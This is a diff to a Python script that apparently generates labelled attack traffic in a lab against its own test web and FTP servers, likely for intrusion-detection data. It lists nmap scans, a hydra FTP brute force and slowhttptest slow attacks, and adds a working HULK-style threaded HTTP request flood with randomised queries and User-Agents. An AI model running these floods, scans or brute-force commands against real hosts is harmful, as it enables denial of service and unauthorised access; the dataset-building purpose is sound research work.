@@ -30,16 +30,17 @@ SWEPT = [f"10.77.0.{last}" for last in range(30, 60)]
 SCAN = ("nmap", "-n", "-Pn", "--disable-arp-ping", "-T4", "--max-retries", "1")
 # slowhttptest: sixty connections at once, for so long that a pause of five seconds can show.
 SLOW = ("slowhttptest", "-c", "60", "-r", "60", "-l", "20", "-i", "6", "-u", f"http://TARGET:{WEB}/")
-# Its page is larger than any socket's buffer; it reads what it is sent, and says nothing before it has all.
+# Its page is larger than any socket's buffer, but what is asked for with a query; it reads what it is sent, and says nothing before it has all.
 WEB_SERVER = f"""
 import http.server
 class Page(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        size = 200 if self.path.startswith("/?") else 1 << 22
         self.send_response(200)
-        self.send_header("Content-Length", str(1 << 22))
+        self.send_header("Content-Length", str(size))
         self.end_headers()
-        self.wfile.write(bytes(1 << 22))
+        self.wfile.write(bytes(size))
     do_POST = do_GET
     def log_message(self, *_):
         pass
@@ -47,6 +48,17 @@ class Server(http.server.ThreadingHTTPServer):
     request_queue_size = 512
 Server(("0.0.0.0", {WEB}), Page).serve_forever()
 """
+# As HULK does: each request by a connection of its own, and no two alike.
+REQUESTS = ("import http.client, random, sys, threading, time\n"
+            "def ask(until):\n"
+            "    while time.monotonic() < until:\n"
+            "        server = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=5)\n"
+            "        try:\n"
+            "            server.request('GET', f'/?{random.random()}', headers={'User-Agent': f'browser/{random.random()}'})\n"
+            "            server.getresponse().read()\n"
+            "        except OSError: time.sleep(0.1)\n"
+            "        server.close()\n"
+            "for _ in range(8): threading.Thread(target=ask, args=(time.monotonic() + float(sys.argv[3]),)).start()\n")
 FTP_SERVER = "listen=YES\nlocal_enable=YES\nanonymous_enable=NO\nsecure_chroot_dir={}\npam_service_name=other\n"
 
 
@@ -79,6 +91,7 @@ def attacks(folder):
         Attack("port_scan", "udp_scan", (*SCAN, "--max-retries", "0", "-sU", "-p", "1000-1100", "TARGET")),
         Attack("host_scan", "syn_scan", (*SCAN, "-sS", "-p", "23", *SWEPT), sweeps=True),
         Attack("brute_force", "brute_force", ("hydra", "-I", "-t", "8", "-l", "ann", "-P", words, f"ftp://TARGET:{FTP}")),
+        Attack("volumetric", "request_flood", (sys.executable, "-c", REQUESTS, "TARGET", str(WEB), "8")),
     ]
     slow = [Attack("slow_attack", "slow_attack", (*SLOW, *mode))
             for mode in (("-H",), ("-B",), ("-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32"))]
